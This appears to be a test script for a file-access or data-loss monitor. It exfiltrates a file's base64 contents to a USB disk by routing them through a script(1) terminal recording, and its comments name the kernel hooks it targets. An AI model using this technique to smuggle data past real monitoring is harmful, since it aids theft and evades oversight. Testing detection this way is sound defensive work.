#!/usr/bin/env bash
# technique: script(1) records on the USB disk what a program shows on its terminal
# hooks: file_permission (of the terminal, looked at again at the sink), file_open
# sink: usb

. attack.sh
timeout 6 script -q -c "base64 '$SCAN' | head -c 20000" "$ROOM/record" >/dev/null </dev/null
tail -n +2 "$ROOM/record" | head -n -1 >"$ROOM/text"
[ "$(wc -c <"$ROOM/text")" -lt 1000 ] || cp "$ROOM/text" "$COPY"
